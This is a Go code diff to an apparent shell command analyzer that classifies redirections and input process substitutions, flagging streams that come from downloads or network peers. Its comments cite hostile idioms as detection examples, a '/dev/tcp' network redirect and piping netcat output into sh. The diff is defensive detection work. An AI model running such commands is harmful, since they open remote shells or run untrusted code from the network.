@@ -239,8 +239,9 @@ func (a *analyzer) wire(rs []redirect, execOnly bool) wiring {
 			}
 			continue
 		case syntax.DplIn, syntax.DplOut:
-			if r.target.dyn != 0 {
+			if r.target.dyn != 0 && !strings.Contains(r.target.s, "/") {
 				// >&$fd: a descriptor held in a variable (zsh ztcp's $REPLY).
+				// A word with a slash is a path (>& /dev/tcp/h/$PORT).
 				e, ok := fds[r.target.raw]
 				if !ok {
 					e, ok = fds[r.target.s]
@@ -317,6 +318,9 @@ func (a *analyzer) wire(rs []redirect, execOnly bool) wiring {
 			w.facets = append(w.facets, action.Action{Kind: action.FileRead, Path: p, Detail: detail})
 			if r.fd == "0" {
 				w.stdin = &stream{kind: streamFile, path: t.s, from: t.s}
+				if ps := a.procStream(t); ps != nil {
+					w.stdin = ps
+				}
 			}
 		case syntax.RdrInOut:
 			w.facets = append(w.facets,
@@ -378,4 +382,24 @@ func harmlessDevice(p string) bool {
 		return true
 	}
 	return false
+}
+
+// procStream returns what an input process substitution that is the whole
+// word w writes, when that says more than "a pipe": literal or decoded
+// text, a download or a network peer (sh < <(nc HOST PORT)). A plain pipe
+// (source <(kubectl completion bash)) returns nil: its commands are parts
+// of their own and the reader is judged as before.
+func (a *analyzer) procStream(w word) *stream {
+	if w.dyn&dynProc == 0 || !strings.HasPrefix(w.s, "<(") {
+		return nil
+	}
+	out, ok := a.procOut[w.s]
+	if !ok || out.kind == streamPipe || out.kind == streamFile {
+		return nil
+	}
+	c := *out
+	if c.from == "" {
+		c.from = w.s
+	}
+	return &c
 }
